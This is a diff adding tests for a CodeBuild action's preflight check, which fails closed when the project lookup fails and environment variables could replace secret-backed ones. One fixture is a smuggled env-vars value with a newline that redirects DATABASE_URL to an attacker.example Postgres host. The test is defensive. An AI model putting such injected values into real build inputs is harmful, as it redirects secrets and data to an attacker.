@@ -58,6 +58,39 @@ describe('preflight', () => {
     const result = await preflight(client.codebuild, plan(), new ManualClock())
     expect(result.warnings[0]).toMatch(/Could not look up project 'app-migrations'.*codebuild:BatchGetProjects/)
   })
+  describe('fails closed when the lookup fails and variables could replace the project’s secrets', () => {
+    const failing = (error: Error) =>
+      new FakeClient({
+        BatchGetProjects: () => {
+          throw error
+        }
+      }).codebuild
+    it.each([
+      ['denied', awsError('AccessDeniedException', 400, 'not authorized')],
+      ['throttled past the retries', awsError('ThrottlingException', 400, 'Rate exceeded')],
+      ['a 500', awsError('InternalFailure', 500, 'internal')]
+    ])('%s: nothing starts, the error names the inputs and the way out', async (_, error) => {
+      const smuggled = plan({ 'env-vars': 'NOTE=x\nDATABASE_URL=postgres://u:p@attacker.example/db', 'secret-env-vars': 'API_KEY=app/key' })
+      await expect(preflight(failing(error), smuggled, new ManualClock())).rejects.toThrow(
+        new RegExp(
+          "^Could not look up project 'app-migrations' \\(.*\\): without it the action cannot check that env-vars, secret-env-vars do not replace a variable the project reads from Secrets Manager or Parameter Store \\(such as DATABASE_URL\\), so nothing was started\\. Allow codebuild:BatchGetProjects, or set project-lookup: optional"
+        )
+      )
+    })
+    it('project-lookup: optional starts with a warning', async () => {
+      const result = await preflight(
+        failing(awsError('AccessDeniedException', 400, 'not authorized')),
+        plan({ 'env-vars': 'NOTE=x', 'project-lookup': 'optional' }),
+        new ManualClock()
+      )
+      expect(result.warnings).toEqual([
+        expect.stringMatching(/^Could not look up project 'app-migrations' .*; starting without the project's checks/)
+      ])
+    })
+    it('refuses a project-lookup that is neither required nor optional', () => {
+      expect(() => plan({ 'project-lookup': 'off' })).toThrow(/^Input 'project-lookup' /)
+    })
+  })
   it('warns about a project outside any VPC and about Docker without privileged mode', () => {
     const warnings = checkProject({ name: 'app-migrations', environment: { ...ENV, privilegedMode: false } }, plan())
     expect(warnings).toHaveLength(2)
